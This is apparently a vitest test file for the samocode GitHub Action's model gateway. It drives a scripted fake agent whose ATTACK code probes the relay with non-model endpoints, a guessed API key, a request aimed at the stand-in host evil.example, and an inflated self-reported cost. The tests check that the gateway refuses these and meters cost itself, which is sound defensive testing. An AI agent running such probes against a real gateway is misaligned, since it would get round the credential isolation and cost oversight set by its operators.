// The model gateway, driven through the built action with a fake agent that
// attacks it: it asks the relay for endpoints other than model calls, for
// another host, with a guessed key; and the cases where there is no key for
// the gateway to hold (auto: said plainly; on: the run fails and says why).
import { describe, expect, it } from 'vitest';
import { AnthropicStandIn, say } from '../helpers/anthropic-stand-in.js';
import { useFakeGitHub } from '../helpers/fake-github.js';
import { writeFakeCli } from '../helpers/fake-cli.js';
import { checkout, labeledEvent, makeRemote, runBuiltAction } from '../helpers/runner.js';

const REAL_KEY = 'sk-ant-api03-AdversarialGatewayKey-0123456789';
const github = useFakeGitHub({ Codertocat: 'admin' });

/** Tries the relay every way it should refuse, then makes one proper call; writes what it got to result.json in its folder. */
const ATTACK = `
const base = process.env.ANTHROPIC_BASE_URL;
const key = process.env.ANTHROPIC_API_KEY;
const http = require('node:http');
const ask = (path, headers = {}, body = '{"model":"claude-sonnet-4-5","max_tokens":5,"messages":[]}', method = 'POST') => new Promise((done) => {
  const u = new URL(base);
  const req = http.request({ host: u.hostname, port: u.port, method, path, headers: { 'content-type': 'application/json', 'x-api-key': key, ...headers } }, (res) => { let t = ''; res.on('data', (d) => (t += d)); res.on('end', () => done(res.statusCode)); });
  req.on('error', (e) => done('error ' + e.message));
  req.end(body);
});
(async () => {
  const out = !base ? { base: null, key: typeof key } : {
    base, placeholder: key,
    files: await ask('/v1/files'),
    batches: await ask('/v1/messages/batches'),
    guessed: await ask('/v1/messages', { 'x-api-key': 'sk-ant-guess' }),
    elsewhere: await ask('http://evil.example/v1/messages', { host: 'evil.example' }),
  };
  fs.writeFileSync(path.join(dir, 'result.json'), JSON.stringify(out));
  signal({ status: 'blocked', reason: 'attacked the gateway' });
  emit({ type: 'result', subtype: 'success', is_error: false, total_cost_usd: 1.5, num_turns: 1, usage: { input_tokens: 1, output_tokens: 1 } });
})();
`;

async function start(issue: number, inputs: Record<string, string>, env: Record<string, string>) {
  github.addIssue({ number: issue, title: `Gateway ${issue}`, body: 'Use the model.', labels: ['samocode'] });
  const cli = await writeFakeCli('claude', ATTACK);
  const run = await runBuiltAction({ apiUrl: github.url, snapshotFrom: github, workspace: checkout(makeRemote()), event: 'issues', payload: labeledEvent(issue), inputs: { provider: 'claude', 'cli-path': cli.path, ...inputs }, env });
  const { readFileSync, existsSync } = await import('node:fs');
  const file = `${cli.dir}/result.json`;
  return { run, cli, result: existsSync(file) ? (JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>) : null };
}

describe('the model gateway under attack (dist/index.js)', () => {
  it('relays only model calls that carry the placeholder, only to the configured upstream; the CLI’s own cost is kept for comparison only', async () => {
    const standIn = await AnthropicStandIn.start([say('one'), say('two')], { apiKey: REAL_KEY });
    try {
      const { run, result } = await start(801, {}, { ANTHROPIC_API_KEY: REAL_KEY, ANTHROPIC_BASE_URL: standIn.url });
      expect(result).toMatchObject({ files: 404, batches: 404, guessed: 401, elsewhere: 200 });
      // The agent is in its restricted network (the default): the relay listens on the host side of its link, not on loopback.
      expect(String(result!.base)).toMatch(/^http:\/\/(\d+\.){3}\d+:\d+$/);
      expect(String(result!.base)).not.toMatch(/^http:\/\/127\./);
      expect(result!.placeholder).not.toBe(REAL_KEY);
      // The one call that went through reached the configured upstream with the real key, whatever host the agent named.
      expect(standIn.requests.map((r) => [r.url, r.headers['x-api-key'], r.headers.host])).toEqual([['/v1/messages', REAL_KEY, new URL(standIn.url).host]]);
      // The agent claimed $1.50; the record holds what the relay metered (the stand-in's default usage at sonnet prices).
      expect(run.outputs['cost-usd']).toBe(((1_000 * 3 + 50 * 15) / 1e6).toFixed(4));
      expect(run.summary).toMatch(/the CLI's own report, for comparison: \$1\.50/);
    } finally {
      await standIn.close();
    }
  });

  it('auto without a key in the environment: the gateway is not used, and the run says so', async () => {
    const { run, result } = await start(802, {}, {});
    // No relay address and no key: the CLI is left to its own login.
    expect(result).toEqual({ base: null, key: 'undefined' });
    expect(run.summary).toMatch(/\*\*Model gateway:\*\* not used: no claude key in the job's environment \(ANTHROPIC_API_KEY, ANTHROPIC_AUTH_TOKEN, CLAUDE_CODE_OAUTH_TOKEN\); the agent holds its own credential, and its cost is its own report/);
  });

  it('on without a key: the run fails before the agent starts, and the issue says why', async () => {
    const { run, result } = await start(803, { 'model-gateway': 'on' }, {});
    expect(result).toBeNull();
    expect(run.stdout).toContain('::error::samocode: the model gateway cannot run (input model-gateway: on): no claude key');
    expect(github.issues.get(803)!.comments.some((c) => c.body.includes('the model gateway cannot run'))).toBe(true);
  });
});
